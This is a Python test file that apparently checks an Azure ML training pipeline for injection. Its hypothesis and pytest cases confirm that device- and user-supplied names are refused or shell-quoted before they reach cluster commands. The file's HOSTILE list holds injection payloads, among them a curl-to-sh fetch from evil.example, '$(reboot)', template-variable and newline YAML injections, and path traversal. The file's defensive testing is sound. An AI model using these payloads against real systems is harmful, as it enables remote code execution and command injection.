"""What devices, people and the registry call things never becomes a step of a pipeline, or a command on the cluster."""

import re
import shlex
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from commands.kit.services import Services
from commands.train.submit import in_use
from infra.azureml import jobs, preparations
from infra.azureml.components import Component
from infra.azureml.connection import WorkspaceId
from infra.azureml.errors import Refused
from infra.azureml.jobs import Training
from infra.azureml.preparations import Preparation
from infra.training import component
from infra.training.definition import TrainingDefinition
from storage import devices
from storage.devices import DeviceRow
from tests.bot.conftest import desk, services

__all__ = ["desk", "services"]
AT = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
WORKSPACE = WorkspaceId("subscription", "group", "workspace")
TRAINING = Training("run", "request", "Cap_Model", "caps_1", "1", "gpu", "spotter", "trainer")
HOSTILE = [
    "x'; curl https://evil.example | sh; '",
    "$(reboot)",
    "`reboot`",
    "${{ parameters.target }}",
    "${{inputs.model_name}}",
    "$(EDGE_SVC_CONNECTION)",
    "##vso[task.setvariable variable=x]y",
    "a\nb: c",
    "a\r\n- script: reboot",
    'a"b',
    "a'b",
    "../../workspaces/other",
    "..",
    "a/versions/2",
    "a?x=1#y",
    "a\0b",
    "\ud800",
    "９",
]
hostile = (
    st.sampled_from(HOSTILE)
    | st.text(min_size=1)
    | st.text(alphabet="'\"$`\\ ${}();|&<>\n:./-#[]", min_size=1)
)
PLAIN = re.compile(r"[A-Za-z0-9._:,/%-]*")
quick = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


@quick
@given(st.sampled_from(["model_name", "export_name", "export_version", "cluster", "compared_with"]), hostile)
@example("compared_with", "x'; curl https://evil.example | sh; ':1")
def test_what_a_training_is_given_is_a_name_or_refused(field: str, name: str) -> None:
    given = replace(TRAINING, **{field: [name] if field == "compared_with" else name})  # type: ignore[arg-type]  # by name
    try:
        inputs = jobs.body_of(given, WORKSPACE)["properties"]["inputs"]
    except (Refused, UnicodeEncodeError):
        return
    assert all(PLAIN.fullmatch(str(entry.get("value", entry.get("uri")))) for entry in inputs.values())
    assert inputs["training_data"]["uri"].count("/") == WORKSPACE.path.count("/") + 4


@quick
@given(hostile)
def test_an_address_stays_one_word_of_the_command_line(address: str) -> None:
    asked = Preparation("p", "caps", "1", f"azureml://{address}", "t", "gpu", Component("id", "prepare", "1"))
    try:
        literal = preparations.body_of(asked, WORKSPACE)["properties"]["inputs"]["address"]["value"]
    except Refused:
        return
    line = component.prepare_command().replace("${{inputs.address}}", literal)
    assert literal in shlex.split(line)


def test_every_input_is_quoted_where_it_is_put_into_a_command_line() -> None:
    for line in (
        component.split_command(),
        component.register_command(TrainingDefinition()),
        component.evaluate_command(),
        component.prepare_command(),
    ):
        bare = re.sub(r"'[^']*'", "", line)
        assert "${{" not in bare, line


@pytest.mark.parametrize("said", HOSTILE)
def test_what_a_device_says_does_not_reach_the_cluster(services: Services, said: str) -> None:
    told = [("one", said, "1"), ("two", "Cap_Model", said), ("three", "Cap_Model", "3"), ("four", "", "")]
    rows = [
        DeviceRow(name, "line-1", "all", model, version, True, True, said, AT)
        for name, model, version in told
    ]
    with services.store.write() as tx:
        devices.keep(
            tx,
            [
                replace(
                    row,
                    model=row.model.replace("\ud800", ""),
                    version=row.version.replace("\ud800", ""),
                    reason="",
                )
                for row in rows
            ],
        )
    assert in_use(services) == ["Cap_Model:3"]
